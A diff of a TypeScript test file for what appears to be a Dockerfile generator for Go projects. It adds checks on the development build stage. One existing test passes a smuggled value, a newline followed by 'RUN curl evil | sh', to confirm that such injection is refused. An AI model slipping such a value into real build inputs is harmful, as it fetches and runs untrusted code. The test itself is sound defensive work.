@@ -96,6 +96,20 @@ describe('plans per base', () => {
     for (const dropped of ['.git/HEAD', '.env', 'server.test', 'coverage.out', 'bin/server']) expect(ignored.ignores(dropped), dropped).toBe(true);
   });
 
+  it('the development image compiles what go run compiles, with the same flags, after the source is copied', async () => {
+    for (const [fixture, warm, run] of [
+      ['go-cmd-api', 'RUN go build -o /dev/null ./cmd/api\n', 'CMD ["go", "run", "./cmd/api"]'],
+      ['go-vendored', 'RUN go build -mod=vendor -o /dev/null .\n', 'CMD ["go", "run", "-mod=vendor", "."]'],
+    ] as const) {
+      const detection = await detectFixture(fixture);
+      const plan = go.plan(detection, options(detection));
+      const dev = render(plan.template, plan.data).split('AS development\n')[1]?.split('\n\n')[0] ?? '';
+      expect(dev, fixture).toContain(`COPY . .\n# Compiled once here`);
+      expect(dev, fixture).toContain(warm);
+      expect(dev, fixture).toContain(run);
+    }
+  });
+
   it('refuses a --main or version that would inject an instruction', async () => {
     const detection = await detectFixture('go-stdlib');
     expect(() => go.plan(detection, options(detection, { choices: { main: './cmd/api\nRUN curl evil | sh' } }))).toThrow(/Refusing/);
